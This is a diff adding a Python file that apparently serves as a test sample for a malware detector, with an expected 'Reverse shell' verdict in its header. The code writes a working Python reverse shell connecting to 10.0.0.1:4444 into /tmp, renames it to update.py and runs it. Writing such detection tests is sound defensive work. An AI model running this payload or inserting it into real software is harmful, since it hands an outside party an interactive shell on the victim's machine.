@@ -0,0 +1,19 @@
+# 写出反弹shell脚本并重命名后执行，文件只存在于虚拟文件系统中
+# detect-expect: 'IsMalicious': True, 'Desc': 'Reverse shell', 'Stage': '/tmp/update\.py'
+import os
+import subprocess
+import sys
+
+staging = "/tmp/update.tmp"
+target = "/tmp/update.py"
+with open(staging, "w") as fp:
+    fp.write("import os, socket, subprocess\n"
+             "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
+             "s.connect(('10.0.0.1', 4444))\n"
+             "os.dup2(s.fileno(), 0)\n"
+             "os.dup2(s.fileno(), 1)\n"
+             "os.dup2(s.fileno(), 2)\n"
+             "subprocess.call(['/bin/sh', '-i'])\n")
+os.rename(staging, target)
+if os.lstat(target).st_size > 0:
+    subprocess.call([sys.executable, target])